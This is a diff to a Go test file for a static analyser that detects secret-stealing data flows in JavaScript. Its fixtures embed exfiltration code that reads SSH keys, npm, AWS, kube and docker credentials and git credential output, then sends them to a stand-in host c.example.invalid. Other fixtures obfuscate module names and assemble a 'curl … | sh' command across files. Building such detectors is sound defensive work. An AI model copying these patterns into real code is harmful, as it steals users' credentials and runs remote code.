@@ -10,6 +10,7 @@ import (
 	"time"
 
 	"github.com/google/go-cmp/cmp"
+	"github.com/google/go-cmp/cmp/cmpopts"
 )
 
 func hasString(f *Facts, v string) bool {
@@ -1502,30 +1503,45 @@ func TestCrossFileConstants(t *testing.T) {
 	if f := Analyze("names.js", []byte(`module.exports = "child_" + "process";`), DefaultLimits()); f.Export != "child_process" {
 		t.Errorf("Export = %q", f.Export)
 	}
+	props := Analyze("fp.js", []byte(`const _ = (a) => String.fromCharCode.apply(null, a);
+module.exports = { m1: _([99,104,105,108,100,95,112,114,111,99,101,115,115]), h: "203.0." + "113.9", run() {}, n: 3 };
+exports.p1 = ".s" + "sh"; module.exports.c1 = ["git", "config"].join(" ");`), DefaultLimits())
+	if diff := cmp.Diff(map[string]string{"m1": "child_process", "h": "203.0.113.9", "p1": ".ssh", "c1": "git config"}, props.ExportProps); diff != "" {
+		t.Errorf("ExportProps (-want +got):\n%s", diff)
+	}
 	lim := DefaultLimits()
 	asked := map[string]bool{}
-	lim.Module = func(from, spec string) (string, bool) {
-		asked[spec] = true
-		switch spec {
-		case "./names":
+	lim.Module = func(from, spec, prop string) (string, bool) {
+		asked[spec+"#"+prop] = true
+		switch spec + "#" + prop {
+		case "./names#":
 			return "child_process", true
-		case "./a":
+		case "./a#":
 			return "curl -s http://x.example.invalid/", true
-		case "./b":
+		case "./b#":
 			return "x.sh | sh", true
+		case "./fp#m2":
+			return "https", true
+		case "./fp#p2":
+			return "id_rsa", true
 		}
 		return "", false
 	}
 	f := Analyze("index.js", []byte(`require(require("./names")).execSync(require("./a") + require("./b"));
-const cfg = require("./config");`), lim)
-	if !hasImport(f, "child_process") {
-		t.Errorf("module name from another file not folded: %+v", f.Imports)
+const cfg = require("./config");
+const T = require("./fp"); const { p2 } = require("./fp");
+require(T.m2).get("https://x.example.invalid/" + p2);`), lim)
+	if !hasImport(f, "child_process") || !hasImport(f, "https") {
+		t.Errorf("module names from another file not folded: %+v", f.Imports)
 	}
 	if c := hasCall(f, "child_process.execSync"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "curl -s http://x.example.invalid/x.sh | sh" {
 		t.Errorf("command split over files: %+v", c)
 	}
-	if len(asked) != 3 || asked["./config"] {
-		t.Errorf("Module asked for %v, want ./names, ./a and ./b (not a plain require of ./config)", asked)
+	if c := hasCall(f, "https.get"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "https://x.example.invalid/id_rsa" {
+		t.Errorf("URL from another module's properties: %+v", c)
+	}
+	if asked["./config#"] || !asked["./names#"] || !asked["./fp#m2"] {
+		t.Errorf("Module asked for %v, want ./names, ./a, ./b and ./fp's properties (not a plain require of ./config)", asked)
 	}
 }
 
@@ -1724,19 +1740,121 @@ function config(opts) {
   cache.other(opts.file, process.env.HOME);
 }`
 	f := Analyze("x.js", []byte(src), DefaultLimits())
-	if diff := cmp.Diff([]string{"collect", "default", "dump", "snapshot"}, slices.Sorted(slices.Values(f.EnvReturns))); diff != "" {
-		t.Errorf("EnvReturns (-want +got):\n%s", diff)
+	var returns []string
+	for _, r := range f.Returns {
+		if r.Env {
+			returns = append(returns, r.Name)
+		}
+	}
+	if diff := cmp.Diff([]string{"collect", "default", "dump", "snapshot"}, slices.Sorted(slices.Values(returns))); diff != "" {
+		t.Errorf("Returns of the environment (-want +got):\n%s", diff)
 	}
 	if f.DefaultExport != "gather" {
 		t.Errorf("DefaultExport %q, want gather", f.DefaultExport)
 	}
-	var calls []string
-	for _, c := range f.ModuleCalls {
-		calls = append(calls, c.Callee+"/"+itoa(int(c.Env))+"@"+itoa(c.Pos.Line))
-	}
-	// (one variable of the environment is not the environment)
-	if diff := cmp.Diff([]string{"./cache.persist/2@11"}, calls); diff != "" {
+	// (one variable of the environment is not the environment, and HOME
+	// is no secret)
+	want := []ModuleCall{{Callee: "./cache.persist", Args: []Carried{{}, {Env: true}}, Pos: Pos{Line: 11}}}
+	if diff := cmp.Diff(want, f.ModuleCalls, cmpopts.IgnoreFields(ModuleCall{}, "Snippet"), cmpopts.IgnoreFields(Pos{}, "Col", "Off")); diff != "" {
 		t.Errorf("ModuleCalls (-want +got):\n%s", diff)
+	}
+}
+
+// Secret files' content, commands' output and secret-named variables cross
+// functions and modules too: returned, handed to another module's function
+// or the file's own, kept in another module's exports, emitted as an
+// event; and are seen when a request carries them.
+func TestModuleDataFlows(t *testing.T) {
+	src := `const fs = require("fs"), os = require("os"), path = require("path");
+const { execSync } = require("child_process");
+const sync = require("./sync"), state = require("./state");
+exports.readIdentity = function () { return fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8"); };
+exports.token = process.env.NPM_TOKEN;
+exports.version = "1.0";
+function gather() { const r = {}; r.key = fs.readFileSync(os.homedir() + "/.npmrc", "utf8"); return r; }
+function ship(r) { require("https").request({ host: "c.example.invalid", method: "PUT" }).end(JSON.stringify(r)); }
+ship(gather());
+sync.push("h", execSync("git credential fill", { input: "host=x\n" }).toString());
+state.raw = fs.readFileSync(os.homedir() + "/.kube/config", "utf8");
+bus.emit("auths", fs.readFileSync(os.homedir() + "/.docker/config.json"));
+bus.on("ready", (x) => x);
+fetch("https://c.example.invalid/k", { method: "POST", body: fs.readFileSync(os.homedir() + "/.aws/credentials") });
+fetch("https://c.example.invalid/p", { method: "POST", body: fs.readFileSync("package.json") });`
+	f := Analyze("x.js", []byte(src), DefaultLimits())
+	var got []string
+	for _, r := range f.Returns {
+		got = append(got, "return "+r.Name+" "+r.File+r.EnvVar)
+	}
+	for _, c := range f.ModuleCalls {
+		for i, a := range c.Args {
+			if !a.Zero() {
+				got = append(got, "call "+c.Callee+"/"+itoa(i)+" "+a.File)
+			}
+		}
+	}
+	for _, r := range f.Stores {
+		got = append(got, "store "+r.Name+" "+r.File)
+	}
+	for _, r := range f.Emits {
+		got = append(got, "emit "+r.Name+" "+r.File)
+	}
+	for _, s := range f.FileSends {
+		got = append(got, "send "+s.Callee+" "+s.File+"@"+itoa(s.Pos.Line))
+	}
+	got = append(got, "listens "+strings.Join(f.Listens, ","))
+	want := []string{
+		"return readIdentity ${…}/.ssh/id_rsa",
+		"return token NPM_TOKEN",
+		"return gather ${…}/.npmrc",
+		"call ship/0 ${…}/.npmrc",
+		"call ./sync.push/1 $ git credential fill",
+		"store ./state.raw ${…}/.kube/config",
+		"emit auths ${…}/.docker/config.json",
+		"send fetch ${…}/.aws/credentials@14",
+		"listens ready",
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("flows (-want +got):\n%s", diff)
+	}
+}
+
+// Linking's seeds for secret data: a parameter, another module's function
+// or property, an event, the module another module stores into.
+func TestModuleDataSeeds(t *testing.T) {
+	src := `const https = require("https");
+const keys = require("./keys"), state = require("./state"), tok = require("./token");
+function ship(r) { https.request({ host: "c.example.invalid" }).end(JSON.stringify(r)); }
+exports.sync = function (host, material) { fetch("https://c.example.invalid/s", { method: "POST", body: material }); };
+keys.readIdentity().then((k) => fetch("https://c.example.invalid/t", { method: "POST", body: k }));
+bus.on("auths", (a) => ws.send(a));
+require("child_process").spawn("curl", ["--data-binary", JSON.stringify(state), "https://c.example.invalid/u"]);
+fetch("https://c.example.invalid/v", { headers: { "x-id": Buffer.from(tok.token).toString("base64") } });`
+	var got []string
+	lim := DefaultLimits()
+	f := Analyze("x.js", []byte(src), lim)
+	if len(f.FileSends) > 0 || len(f.Env) > 0 {
+		t.Fatalf("secret data sent with no seed: %+v %+v", f.FileSends, f.Env)
+	}
+	lim.Params = map[string][]Carried{"ship": {{File: "~/.npmrc"}}, "sync": {{}, {File: "~/.ssh/id_rsa"}}}
+	lim.Results = map[string]Carried{"./keys.readIdentity": {File: "~/.ssh/id_ed25519"}, "./state": {File: "~/.kube/config"}, "./token.token": {EnvVar: "NPM_TOKEN"}}
+	lim.Events = map[string]Carried{"auths": {File: "~/.docker/config.json"}}
+	f = Analyze("x.js", []byte(src), lim)
+	for _, s := range f.FileSends {
+		got = append(got, s.Callee+" "+s.File+"@"+itoa(s.Pos.Line))
+	}
+	for _, e := range f.Env {
+		got = append(got, e.How+" "+e.Name+"@"+itoa(e.Pos.Line))
+	}
+	want := []string{
+		"https.request().end ~/.npmrc@3",
+		"fetch ~/.ssh/id_rsa@4",
+		"fetch ~/.ssh/id_ed25519@5",
+		"ws.send ~/.docker/config.json@6",
+		"child_process.spawn ~/.kube/config@7",
+		"sent:fetch NPM_TOKEN@8",
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("sends (-want +got):\n%s", diff)
 	}
 }
 
@@ -1757,11 +1875,11 @@ exports.persist = function (file, vars) {
 		t.Fatalf("environment sent with no seed: %+v", f.Env)
 	}
 	lim := DefaultLimits()
-	lim.EnvParams = map[string]uint8{"persist": 1 << 1}
+	lim.Params = map[string][]Carried{"persist": {{}, {Env: true}}}
 	if f := Analyze("cache.js", []byte(send), lim); !sent(f) {
 		t.Errorf("parameter seeded with the environment not seen sent: %+v", f.Env)
 	}
-	lim.EnvParams = map[string]uint8{"persist": 1 << 2, "other": 1 << 1}
+	lim.Params = map[string][]Carried{"persist": {{}, {}, {Env: true}}, "other": {{}, {Env: true}}}
 	if f := Analyze("cache.js", []byte(send), lim); sent(f) {
 		t.Errorf("a parameter it lacks or another function seeded, yet the environment is sent: %+v", f.Env)
 	}
@@ -1772,7 +1890,7 @@ collect().then((data) => https.request(u).end(JSON.stringify(data)));
 function push(dst, labels = collect()) { fetch(dst, { method: "PUT", body: labels }); }
 let later; later = collect(); upload(later);`
 	lim = DefaultLimits()
-	lim.EnvResults = map[string]bool{"./collect.mjs": true}
+	lim.Results = map[string]Carried{"./collect.mjs": {Env: true}}
 	f := Analyze("index.js", []byte(use), lim)
 	var hows []string
 	for _, e := range f.Env {
@@ -1781,7 +1899,7 @@ let later; later = collect(); upload(later);`
 	if diff := cmp.Diff([]string{"sent:https.request().end@4", "sent:fetch@5"}, hows); diff != "" {
 		t.Errorf("env uses (-want +got):\n%s", diff)
 	}
-	if len(f.ModuleCalls) != 1 || f.ModuleCalls[0].Callee != "./upload.mjs.upload" || f.ModuleCalls[0].Env != 1 {
+	if len(f.ModuleCalls) != 1 || f.ModuleCalls[0].Callee != "./upload.mjs.upload" || !slices.Equal(f.ModuleCalls[0].Args, []Carried{{Env: true}}) {
 		t.Errorf("ModuleCalls %+v, want upload(later) with the environment", f.ModuleCalls)
 	}
 }
